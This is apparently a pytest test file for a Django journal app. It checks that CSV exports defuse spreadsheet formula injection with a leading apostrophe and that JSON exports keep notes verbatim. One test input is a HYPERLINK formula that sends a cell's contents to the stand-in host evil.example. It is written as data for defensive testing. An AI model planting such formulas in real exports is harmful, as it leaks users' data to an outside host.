"""The CSV export is safe to open in a spreadsheet; the JSON export stays the exact round trip."""

import csv
import io
import json
import zipfile
from datetime import date, timedelta

import pytest
from django.urls import reverse

from journal.imports import exchange
from tests.factories import make_checkin, make_session

pytestmark = pytest.mark.django_db

# Each character a spreadsheet takes as the start of a formula (or strips before one).
LEADING = ["=", "+", "-", "@", "\t", "\r"]


def read_csv(body: bytes, name: str) -> list[dict]:
    archive = zipfile.ZipFile(io.BytesIO(body))
    return list(csv.DictReader(io.StringIO(archive.read(name).decode(), newline="")))


@pytest.mark.parametrize("start", LEADING, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_a_text_cell_that_a_spreadsheet_would_run_gets_a_leading_apostrophe(
    alice_client, alice, start
):
    note = start + 'HYPERLINK("http://evil.example/?x="&A1,"click")'
    make_session(alice, note=note)
    make_checkin(alice, note=start + "1+1")
    body = alice_client.get(reverse("journal:export_csv")).content
    assert read_csv(body, "sessions.csv")[0]["note"] == "'" + note
    assert read_csv(body, "checkins.csv")[0]["note"] == "'" + start + "1+1"
    # The JSON export keeps the note exactly as written.
    doc = json.loads(alice_client.get(reverse("journal:export_json")).content)
    assert doc["sessions"][0]["note"] == note
    assert doc["checkins"][0]["note"] == start + "1+1"


def test_numbers_stay_numbers_and_plain_text_stays_as_written(alice_client, alice):
    make_session(alice, feeling_before=-2, feeling_after=-1, note="'quoted already")
    make_session(alice, date=date.today() - timedelta(days=2), note="easy -2 km at the end")
    body = alice_client.get(reverse("journal:export_csv")).content
    rows = read_csv(body, "sessions.csv")
    first = next(row for row in rows if row["note"].startswith("'quoted"))
    assert (first["feeling_before"], first["feeling_after"]) == ("-2", "-1")
    # A note already beginning with an apostrophe is not a formula: it is kept as it is.
    assert first["note"] == "'quoted already"
    assert {row["note"] for row in rows} == {"'quoted already", "easy -2 km at the end"}


def test_the_rule_touches_text_only():
    assert exchange.spreadsheet_safe(-2) == -2
    assert exchange.spreadsheet_safe(-2.5) == -2.5
    assert exchange.spreadsheet_safe(None) is None
    assert exchange.spreadsheet_safe("-2") == "'-2"
    assert exchange.spreadsheet_safe("a=b") == "a=b"
    assert exchange.spreadsheet_safe("") == ""
